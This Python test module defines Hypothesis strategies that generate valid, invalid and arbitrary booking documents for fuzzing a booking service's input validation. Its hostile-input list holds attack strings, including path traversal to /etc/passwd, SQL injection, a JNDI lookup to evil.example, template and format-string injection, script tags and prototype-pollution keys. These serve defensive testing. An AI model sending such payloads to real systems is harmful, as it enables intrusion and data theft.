"""Hypothesis strategies for booking documents: certainly valid ones, certainly invalid changes to them, and
anything at all. The hostile-input tests (tests/lambdas) and the API schema's tests (tests/stacks) draw from them.

The valid ones take the handler tests' contract (JPY, without a minor unit, and USD and EUR, with two).
"""

import copy
import json
import operator
import os
import string
from dataclasses import dataclass

from hypothesis import strategies as st

from booking_saga import contract
from booking_saga.contract import readable_name
from tests.factories import booking
from tests.lambdas.support import CONTRACT, PAYMENT_LIMIT

# `./dev check` (the fast loop) draws a quarter of each test's examples; `./dev test` and CI draw them all.
EXAMPLES_SCALE = float(os.environ.get("SAGA_EXAMPLES_SCALE", "1"))


def examples(count: int) -> int:
    """A test's number of hypothesis examples, as the run asks (at least 10)."""
    return max(10, round(count * EXAMPLES_SCALE))


STOCKED = {"flight": ("NH101", 1_000_000), "hotel": ("TOKYO-GRAND", 1_000_000)}

SERVICES = ("flight", "hotel", "payment")
FUNCTIONS = tuple(f"{service}.{action}" for service in SERVICES for action in ("reserve", "cancel"))
ID_CHARS = string.ascii_letters + string.digits + "_-"
UPPER = string.ascii_uppercase
SECTIONS = {"flight": ("flight_id", "seats"), "hotel": ("hotel_id", "rooms"), "payment": ("amount", "currency")}
TOP_LEVEL = ("booking_id", "customer_id", *SECTIONS)
STEP_KEYS = ("fail_at", "fail_cancel", "timeout_after_write", "oversized_result")
# Documented chaos keys, plus whatever the contract knows by now (new kinds are being added): never "unknown".
KNOWN_CHAOS = {*STEP_KEYS, "transient", "duplicate", *contract.CHAOS_KINDS}

HOSTILE_STRINGS = [
    "",
    " ",
    "trip 0001",
    "../../etc/passwd",
    "..",
    "trip/0001",
    "trip.0001",
    "' OR 1=1 --",
    '" OR ""="',
    "1; DROP TABLE bookings",
    "${jndi:ldap://evil.example/x}",
    "${booking_id}",
    "{{7*7}}",
    "%s%s%n",
    "<script>alert(1)</script>",
    "#pk",
    "booking#trip-0001",
    "inventory#NH101",
    ":quantity",
    "trip-0001\n",
    "trip-0001\r\n",
    "\ntrip-0001",
    "trip\x000001",
    "\x00",
    "trip\u202e1000",  # right-to-left override
    "\u200ftrip",  # right-to-left mark
    "\u200btrip",  # zero-width space
    "trip\ufeff",  # byte order mark
    "tr\u00edp",  # i with acute
    "tr\u0456p",  # Cyrillic i
    "\u0422RIP",  # Cyrillic T
    "\uff54\uff52\uff49\uff50",  # full-width "trip"
    "NH\uff11\uff10\uff11",  # full-width digits
    "\u0663\u0664",  # Arabic-Indic digits
    "x\u00b2",  # superscript two
    "trip\U0001f680",  # rocket
    "\U0001f3e8",  # hotel emoji
    "trip\\0001",
    "trip+0001",
    "trip*",
]

# JSON-like values (Python's json also accepts NaN and Infinity, so floats are left unrestricted).
SCALARS = st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20)
JSON_VALUES = st.recursive(
    SCALARS,
    lambda children: st.lists(children, max_size=3) | st.dictionaries(st.text(max_size=10), children, max_size=3),
    max_leaves=8,
)
KINDS = {
    "null": st.none(),
    "bool": st.booleans(),
    "int": st.integers(),
    "float": st.floats(),
    "str": st.text(max_size=20),
    "list": st.lists(JSON_VALUES, max_size=3),
    "object": st.dictionaries(st.text(max_size=10), JSON_VALUES, max_size=3),
}


def json_except(*kinds: str) -> st.SearchStrategy:
    """Any JSON-like value of another kind (built, not filtered, so hypothesis never gives up on a draw)."""
    return st.one_of(*(strategy for kind, strategy in KINDS.items() if kind not in kinds))


NON_OBJECTS = json_except("object")


def _huge(unit: str, times: int) -> str:
    return unit * times


def _spliced(head: str, bad: str, tail: str) -> str:
    return head + bad + tail


# Hand-picked refusals, at the boundaries and in every wrong type: each is drawn by the strategies below, and
# all of them are sent, every run, by test_every_hand_picked_hostile_value_is_refused.
NEAR_MISS_ID_CHARS = "".join(sorted(set(string.punctuation + string.whitespace + "\x00") - set(ID_CHARS)))
EDGES = {
    "id": [*HOSTILE_STRINGS, "x" * 65, "x" * 100_000, None, 42, 4.2, True, ["trip-0001"], {"id": "trip-0001"}],
    "units": [
        *(0, -1, 10, 11, 10**30, -(10**30), 2**63, 2**64),
        *(True, False, 2.0, 1.5, 1e308, float("nan"), float("inf")),
        *("2", "", "two", None, [2], {"n": 2}),
    ],
    "amount": [
        *(0, -1, -0.01, -0.0, 0.001, 0.005, 0.009, 1.001, 84000.005),
        *(10**9 + 1, 1_000_000_000.01, 1e9 + 1, 1e10, 10**30, 2**64, 1e308, float("inf"), float("-inf"), float("nan")),
        *(True, False, "84000", "84000.00", "1e3", "1", "", "NaN", None, [84000], {"amount": 84000}),
    ],
    "currency": [
        *("", "jpy", "Jpy", "jPY", "JP", "J", "JPYY", "JPY\n", " JPY", "JP Y", "JP1", "J-Y", "US$", "J\x00Y"),
        *("\u20ac\u20ac\u20ac", "\u0408\u0420Y", "\uff2a\uff30\uff39"),  # euro signs, Cyrillic J and P, full-width
        *(None, 392, True, ["JPY"], {"code": "JPY"}),
    ],
}
CHAOS_EDGES = {
    "step": [
        *("car", "Flight", "FLIGHT", "flight ", "flights", "flight.reserve", "ReserveFlight", ""),
        *(None, 0, True, ["flight"], {"flight": True}),
    ],
    "transient": [
        *(None, [], "flight.reserve", 1, True, ["flight.reserve", 1], [["flight.reserve", 1]]),
        *({"flight.reserve": count} for count in (0, -1, 9, 10**30, True, False, 1.0, 2.5, "1", None, [1])),
        *({name: 1} for name in ("car.reserve", "flight", "flight.book", "Flight.reserve", "flight.reserve ", "", "*")),
        {"flight.reserve": 1, "hotel.cancel": 0},
    ],
    "duplicate": [
        *(None, "", "flight.reserve", {"flight.reserve": True}, 1, True),
        *(["car.reserve"], ["flight"], [""], [None], [1], [["flight.reserve"]], ["flight.reserve", "FLIGHT.CANCEL"]),
    ],
}

CURRENCIES = sorted(CONTRACT.currencies)  # the base booking's JPY has no minor unit; the others have two
VALID = {
    "id": st.text(ID_CHARS, min_size=1, max_size=64),
    "units": st.integers(1, 9),
    "amount": st.integers(1, 10**9),  # whole amounts: valid in every currency
    "currency": st.sampled_from(CURRENCIES),
}
# Cents as floats (n / 100 prints with at most two decimals below 1e13): valid but in the yen.
CENTS = st.integers(1, 10**11).filter(lambda cents: cents % 100).map(lambda cents: cents / 100)

INVALID = {
    "id": st.one_of(
        json_except("str"),
        st.sampled_from([value for value in EDGES["id"] if len(repr(value)) < 1000]),  # _huge has a short repr
        st.text(ID_CHARS, min_size=65, max_size=200),
        st.builds(
            _huge, st.sampled_from(["x", "ab-_", "\u00e9", "\U0001f680", "\x00"]), st.sampled_from([65, 100_000])
        ),
        st.builds(
            _spliced,
            st.text(ID_CHARS, max_size=30),
            st.sampled_from(NEAR_MISS_ID_CHARS) | st.characters(exclude_characters=ID_CHARS),
            st.text(ID_CHARS),
        ),
    ),
    "units": st.one_of(
        st.integers(max_value=0),
        st.integers(min_value=10),
        st.floats(),  # 2.0 included: a JSON float is not a count
        st.sampled_from(EDGES["units"]),
        st.integers(1, 9).flatmap(lambda units: st.sampled_from([float(units), str(units), [units]])),
        json_except("int"),  # booleans among them: True is an int in Python
    ),
    "amount": st.one_of(
        st.integers(max_value=0),
        st.integers(min_value=10**9 + 1),
        st.integers(10**9 + 1, 10**12),
        st.sampled_from(EDGES["amount"]),
        st.floats(max_value=0.0),
        st.floats(min_value=1e9, exclude_min=True),
        st.floats(min_value=0.0, max_value=0.01, exclude_min=True, exclude_max=True),
        # three decimals, the last one not zero (below 1e13 a float prints them exactly)
        st.integers(1, 10**12).filter(lambda mills: mills % 10).map(lambda mills: mills / 1000),
        st.integers(1, 10**9).map(str),
        json_except("int", "float"),
    ),
    "currency": st.one_of(
        json_except("str"),
        st.text(UPPER, max_size=8).filter(lambda code: len(code) != 3),
        st.text(UPPER, min_size=3, max_size=3).filter(lambda code: code not in CURRENCIES),  # not taken here
        st.builds(
            _spliced,
            st.text(UPPER, max_size=1),
            st.sampled_from(string.ascii_lowercase + string.digits + " $\n") | st.characters(exclude_characters=UPPER),
            st.text(UPPER, max_size=1),
        ),
        st.sampled_from(EDGES["currency"]),
    ),
}
LEAVES = {
    ("booking_id",): "id",
    ("customer_id",): "id",
    ("flight", "flight_id"): "id",
    ("flight", "seats"): "units",
    ("hotel", "hotel_id"): "id",
    ("hotel", "rooms"): "units",
    ("payment", "amount"): "amount",
    ("payment", "currency"): "currency",
}

UNKNOWN_FUNCTIONS = st.sampled_from(
    ["car.reserve", "flight.book", "flight", "Flight.reserve", "flight.reserve ", "flight.Reserve", "*", "flight.*"]
) | st.text(max_size=20).filter(lambda name: name not in FUNCTIONS)
CHAOS_VALID = {
    **{key: st.sampled_from(SERVICES) for key in STEP_KEYS},
    "transient": st.dictionaries(st.sampled_from(FUNCTIONS), st.integers(1, 8), max_size=3),
    "duplicate": st.lists(st.sampled_from(FUNCTIONS), max_size=6, unique=True),
}
_BAD_COUNTS = st.one_of(
    st.integers(max_value=0), st.integers(min_value=9), st.sampled_from([-1, 0, 9, 10]), json_except("int")
)
_BAD_ENTRIES = st.one_of(
    st.builds(lambda name, count: {name: count}, UNKNOWN_FUNCTIONS, st.integers(1, 8)),
    st.builds(lambda name, count: {name: count}, st.sampled_from(FUNCTIONS), _BAD_COUNTS),
)
CHAOS_INVALID = {
    **{
        key: st.sampled_from(CHAOS_EDGES["step"]) | JSON_VALUES.filter(lambda value: value not in SERVICES)
        for key in STEP_KEYS
    },
    "transient": st.one_of(
        st.sampled_from(CHAOS_EDGES["transient"]),
        NON_OBJECTS,
        st.builds(operator.or_, CHAOS_VALID["transient"], _BAD_ENTRIES),  # a bad entry among good ones
    ),
    "duplicate": st.one_of(
        st.sampled_from(CHAOS_EDGES["duplicate"]),
        json_except("list"),
        st.builds(
            lambda good, bad, at: [*good[:at], bad, *good[at:]],
            CHAOS_VALID["duplicate"],
            UNKNOWN_FUNCTIONS | JSON_VALUES.filter(lambda value: value not in FUNCTIONS),
            st.integers(0, 6),
        ),
    ),
}


def unknown_key_samples(known) -> list[str]:
    lookalikes = [
        variant for name in sorted(known) for variant in (name.upper(), f"{name} ", f"{name}\x00", f"_{name}")
    ]
    return ["", "__proto__", "constructor", "pk", "$where", "#pk", "x" * 100, *lookalikes]


def unknown_keys(known) -> st.SearchStrategy[str]:
    return st.sampled_from(unknown_key_samples(known)) | st.text(max_size=70).filter(lambda key: key not in known)


@dataclass(frozen=True)
class Mutation:
    """Set (or delete) the value at ``path``; ``()`` replaces the whole document. ``names``: what a refusal names."""

    path: tuple[str, ...]
    value: object = None
    delete: bool = False
    names: tuple[str, ...] = ()

    def apply(self, document: dict) -> object:
        if not self.path:
            return self.value
        document = copy.deepcopy(document)
        parent = document
        for key in self.path[:-1]:
            if not isinstance(parent.get(key), dict):
                parent[key] = {}  # the mutation still lands (on garbage, an empty section is invalid anyway)
            parent = parent[key]
        if self.delete:
            parent.pop(self.path[-1], None)
        else:
            parent[self.path[-1]] = self.value
        return document


REQUIRED_PATHS = [*((key,) for key in TOP_LEVEL), *((s, field) for s, fields in SECTIONS.items() for field in fields)]
TOP_LEVEL_KNOWN = {*TOP_LEVEL, "chaos"}


def missing(path: tuple[str, ...]) -> Mutation:
    return Mutation(path, delete=True, names=(path[0] if len(path) > 1 else "booking", path[-1]))


# st.builds with st.just, rather than .map(lambda ...), so that a failing example prints its path and names.
def _set(path: tuple[str, ...], values: st.SearchStrategy, names: tuple[str, ...]) -> st.SearchStrategy[Mutation]:
    return st.builds(Mutation, st.just(path), values, names=st.just(names))


def _unknown_field(section: str | None, known) -> st.SearchStrategy[Mutation]:
    path = (section,) if section else ()
    return unknown_keys(known).flatmap(
        lambda key: st.builds(
            Mutation, st.just((*path, key)), JSON_VALUES, names=st.just((section or "booking", readable_name(key)))
        )
    )


# Each of these makes any document invalid, whatever its other fields hold.
INVALID_MUTATIONS = st.one_of(
    *(_set(path, INVALID[kind], (".".join(path),)) for path, kind in LEAVES.items()),
    st.sampled_from(REQUIRED_PATHS).map(missing),
    *(_set((section,), NON_OBJECTS, (section,)) for section in SECTIONS),
    _set((), NON_OBJECTS, ("booking",)),
    _unknown_field(None, TOP_LEVEL_KNOWN),
    *(_unknown_field(section, set(fields)) for section, fields in SECTIONS.items()),
    _set(("chaos",), json_except("object"), ("chaos",)),
    _unknown_field("chaos", KNOWN_CHAOS),
    *(_set(("chaos", key), values, (f"chaos.{key}",)) for key, values in CHAOS_INVALID.items()),
)


def _either(valid: st.SearchStrategy, invalid: st.SearchStrategy) -> st.SearchStrategy:
    """Valid half of the time (a plain one_of would weigh each branch of ``invalid`` as much as ``valid``)."""
    return st.booleans().flatmap(lambda ok: valid if ok else invalid | JSON_VALUES)


def _section(name: str) -> st.SearchStrategy:
    fields = {field: _either(VALID[LEAVES[name, field]], INVALID[LEAVES[name, field]]) for field in SECTIONS[name]}
    return st.fixed_dictionaries(fields) | JSON_VALUES


# Objects with anything in any field, and maybe a few extra fields: now and then valid, mostly not.
GARBAGE_OBJECTS = st.builds(
    operator.or_,
    st.dictionaries(st.text(max_size=12), JSON_VALUES, max_size=2),
    st.fixed_dictionaries(
        {
            "booking_id": _either(VALID["id"], INVALID["id"]),
            "customer_id": _either(VALID["id"], INVALID["id"]),
            **{name: _section(name) for name in SECTIONS},
        },
        optional={"chaos": st.fixed_dictionaries({}, optional=CHAOS_VALID) | JSON_VALUES},
    ),
)
# Certainly valid bookings, most for the stocked flight and hotel and within the payment limit.
VALID_DOCUMENTS = st.fixed_dictionaries(
    {
        "booking_id": VALID["id"],
        "customer_id": VALID["id"],
        "flight": st.fixed_dictionaries(
            {"flight_id": st.just(STOCKED["flight"][0]) | VALID["id"], "seats": VALID["units"]}
        ),
        "hotel": st.fixed_dictionaries(
            {"hotel_id": st.just(STOCKED["hotel"][0]) | VALID["id"], "rooms": VALID["units"]}
        ),
        "payment": st.fixed_dictionaries(
            {"amount": st.integers(1, PAYMENT_LIMIT) | VALID["amount"], "currency": VALID["currency"]}
        )
        | st.fixed_dictionaries({"amount": CENTS, "currency": st.sampled_from(["USD", "EUR"])}),
    },
    optional={"chaos": st.fixed_dictionaries({}, optional=CHAOS_VALID)},
)
ALL_PATHS = [*LEAVES, *((section,) for section in SECTIONS), ("chaos",), *(("chaos", key) for key in CHAOS_VALID)]
ANYTHING = st.one_of(
    VALID_DOCUMENTS,
    st.builds(
        lambda document, mutation: mutation.apply(document),
        VALID_DOCUMENTS,
        st.builds(Mutation, st.sampled_from(ALL_PATHS), JSON_VALUES) | INVALID_MUTATIONS,
    ),
    GARBAGE_OBJECTS,
    JSON_VALUES,
)

NON_OBJECT_EDGES = [None, 0, 1.5, True, "", "{}", [], [booking()], json.dumps(booking()), list(booking().items())]
NON_OBJECT_DOCUMENTS = NON_OBJECTS | st.sampled_from(NON_OBJECT_EDGES)
